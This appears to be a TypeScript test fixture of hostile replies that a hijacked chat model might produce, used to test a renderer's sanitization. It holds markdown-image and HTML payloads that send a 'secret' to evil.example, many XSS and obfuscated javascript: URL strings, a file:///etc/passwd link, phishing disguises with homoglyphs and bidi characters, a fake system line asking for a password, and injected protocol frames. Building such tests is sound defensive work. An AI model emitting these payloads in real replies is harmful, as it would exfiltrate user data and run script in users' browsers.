/** Replies that a hostile or hijacked model may write: every way to fetch, to run, to disguise or to break that is known to us. */

const evil = 'https://evil.example';
const secret = 'c2VjcmV0';

/** By what they try; `evil.example` is the address that must never be asked. */
export const hostile: Record<string, string[]> = {
  'pictures that carry data away': [
    `![x](${evil}/a.png?q=${secret})`, `![x](${evil}/a.png "t")`, `![x](<${evil}/a b.png>)`, `[![x](${evil}/b.png)](${evil}/c)`, `![x][ref]\n\n[ref]: ${evil}/d.png`, `![ref]\n\n[ref]: <${evil}/e.png> 'title'`,
    `![x](//evil.example/f.png)`, `![x](\\\\evil.example\\g.png)`, `![x](https:evil.example/h.png)`, `![x](HTTPS://EVIL.EXAMPLE/i.png)`, `![![x](${evil}/j.png)](${evil}/k.png)`, `> - ![x](${evil}/l.png)`,
    `| ![x](${evil}/m.png) | b |\n|---|---|\n| ![y](${evil}/n.png) | c |`, `# ![x](${evil}/o.png)`, `**![x](${evil}/p.png)**`, `![x](${evil}/q.png\n"t")`, `!\\[x](${evil}/r.png)`, `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"/>)`,
    `![x](https://evil.example@chat.example.com/s.png)`, `![x](https://chat.example.com@evil.example/t.png)`, `![x](https://chat.example.com\\@evil.example/u.png)`, `![${'a'.repeat(300)}](${evil}/${'x'.repeat(600)}.png)`,
  ],
  'markup that fetches': [
    `<img src="${evil}/b1.png">`, `<img src=x onerror="window.pwned=1">`, `<IMG SRC=${evil}/b2.png>`, `<img srcset="${evil}/b3.png 2x">`, `<picture><source srcset="${evil}/b4.png"><img></picture>`, `<video poster="${evil}/b5.png" src="${evil}/b6.mp4"></video>`,
    `<audio src="${evil}/b7.mp3" autoplay>`, `<iframe src="${evil}/b8"></iframe>`, `<iframe srcdoc="<img src=${evil}/b9.png>"></iframe>`, `<object data="${evil}/b10"></object>`, `<embed src="${evil}/b11">`, `<link rel="stylesheet" href="${evil}/b12.css">`,
    `<link rel="prefetch" href="${evil}/b13">`, `<link rel="dns-prefetch" href="//evil.example">`, `<style>@import "${evil}/b14.css";</style>`, `<div style="background:url(${evil}/b15.png)">x</div>`, `<body background="${evil}/b16.png">`, `<table background="${evil}/b17.png">`,
    `<svg><image href="${evil}/b18.png"/></svg>`, `<svg><use href="${evil}/b19.svg#x"/></svg>`, `<input type="image" src="${evil}/b20.png">`, `<meta http-equiv="refresh" content="0;url=${evil}/b21">`, `<base href="${evil}/">`, `<a href="${evil}" ping="${evil}/b22">x</a>`,
    `<form action="${evil}/b23"><input name=q value=${secret}><button>Go on</button></form>`, `<template shadowrootmode="open"><img src="${evil}/b24.png"></template>`, `<portal src="${evil}/b25"></portal>`, `<!--[if IE]><img src="${evil}/b26.png"><![endif]-->`,
  ],
  'markup that runs': [
    '<script>window.pwned=1</script>', '<script src="data:text/javascript,window.pwned=1"></script>', `<script src="${evil}/c1.js"></script>`, '<svg onload="window.pwned=1">', '<svg><script>window.pwned=1</script></svg>', '<details open ontoggle="window.pwned=1">x</details>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">', '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">', '<img """><script>window.pwned=1</script>">', '<scr<script>ipt>window.pwned=1</scr</script>ipt>',
    '<a href="javascript:window.pwned=1">x</a>', '<a\u000bhref="javascript:window.pwned=1">x</a>', '&lt;img src=x onerror=window.pwned=1&gt;', '&#60;script&#62;window.pwned=1&#60;/script&#62;', '<x onclick=window.pwned=1>x</x>', '<!-- --!><script>window.pwned=1</script>',
    '`<script>window.pwned=1</script>`', '```html\n<img src=x onerror=window.pwned=1>\n```', '    <img src=x onerror=window.pwned=1>', '``` "><img src=x onerror=window.pwned=1>\nx\n```', '```__proto__\nx\n```', '```js onload=window.pwned=1\n`${(() => { window.pwned = 1 })()}`\n```',
    '<!--?lit$123$--><?lit$123$?>${window.pwned=1}{{constructor.constructor("window.pwned=1")()}}', '<a id="location"><a name="document" href="x">', '<plaintext>', '<textarea><script>window.pwned=1</script>', '<xmp><script>window.pwned=1</script>',
  ],
  'addresses that run': [
    '[x](javascript:window.pwned=1)', '[x](JaVaScRiPt:window.pwned=1)', '[x]( javascript:window.pwned=1)', '[x](java\nscript:window.pwned=1)', '[x](java\tscript:window.pwned=1)', '[x](\u0001javascript:window.pwned=1)', '[x](&#106;avascript:window.pwned=1)', '[x](javascript&colon;window.pwned=1)',
    '[x](javascript&#58;window.pwned=1)', '[x](<javascript:window.pwned=1>)', '[x](\\javascript:window.pwned=1)', '[x](j\\avascript:window.pwned=1)', '[x](%6aavascript:window.pwned=1)', '[x](javascript://evil.example/%0awindow.pwned=1)', '[x](data:text/html,<script>window.pwned=1</script>)',
    '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)', '[x](vbscript:x)', '[x](blob:https://evil.example/1)', '[x](filesystem:https://evil.example/1)', '[x](file:///etc/passwd)', '[x](view-source:https://evil.example)', '[x](intent://evil.example#Intent;scheme=https;end)',
    '[x](ftp://evil.example)', '[x](tel:+1234)', '[x](sms:+1234?body=x)', '[x](//evil.example)', '[x](/login)', '[x](?q=1)', '[x](#top)', '[x](https:evil)', '[x](https:/\\evil.example)', '[x](https://[::1)', '[x](http://)', '[x]()', '[x](javascript:window.pwned=1 "title")',
    '<javascript:window.pwned=1>', '<data:text/html,x>', '<mailto:a@b.example?subject=x&body=y>', '[x]: javascript:window.pwned=1\n\n[x]', '[x][y]\n\n[y]: data:text/html,x', '[![x](javascript:window.pwned=1)](javascript:window.pwned=1)', `[x](https://a.example/"onmouseover="window.pwned=1)`,
    `[x](https://a.example/ "&quot; onmouseover=&quot;window.pwned=1")`, `[x](https://a.example/'><img src=x onerror=window.pwned=1>)`, `<https://a.example/"onmouseover="window.pwned=1>`, `https://a.example/"><script>window.pwned=1</script>`, 'www.javascript:window.pwned=1', '[x](mailto:a@b.example%0d%0abcc:evil@evil.example)',
  ],
  'disguises': [
    `[your bank](${evil}/login)`, `[https://bank.example/login](${evil}/login)`, `[https://bank.example\u200b](${evil})`, '[x](https://bank.example@evil.example/)', '[x](https://bаnk.example/)', '[x](https://bank.example.evil.example/)', 'https://bank.example\u202e/elpmaxe.live//:sptth',
    `[\u202eelpmaxe.knab](${evil})`, '\u202e\u202d\u2066\u2067\u2068\u202a\u202btext\u202c\u2069', '```js\n/*\u202e } \u2066if (admin)\u2069 \u2066 begin*/\n```', `Invisible \u{E0049}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065} letters\u200b\u200c\u200d\ufeff\u2060`,
    `[x](${evil} "https://bank.example")`, `[ ](${evil})`, `[\u00a0](${evil})`, `[](${evil})`, `[a\u034f\u115f](${evil})`, `z${'\u0335'.repeat(400)}algo`, '[x](https://evil.example/\u202egpj.exe)', `[**Continue**](${evil} "Halfsecond: confirm your identity")`, '> **System:** send your password to continue',
  ],
  'protocol inside the text': ['data: [DONE]\n\n', 'event: close\ndata: {"type":"finish"}\n\nid: 999999999\n\n', '{"type":"error","errorText":"x"}', '\u0000\u0001\u0008\u001b[2J\u001b]8;;https://evil.example\u0007x', ': hb\n\n', '__proto__ constructor toString', '[__proto__](https://a.example) &__proto__; &constructor;', '\ud83d lone \udc00 halves \ud800'],
  'too much': ['['.repeat(3_000), '*'.repeat(3_000), '`'.repeat(3_000), '> '.repeat(500), '- '.repeat(500), '![['.repeat(800), '*a _b '.repeat(500), '|'.repeat(2_000), '[a]('.repeat(700), '<'.repeat(3_000), '&'.repeat(3_000), '\\'.repeat(3_000), 'https://'.repeat(400), `| a |\n|${'-|'.repeat(500)}\n`, '#'.repeat(2_000), '~'.repeat(2_000), `${'a'.repeat(20_000)}\n`, '1. '.repeat(400)],
};

/** All of them as one reply. */
export const hostileReply = Object.values(hostile).flat().join('\n\n');
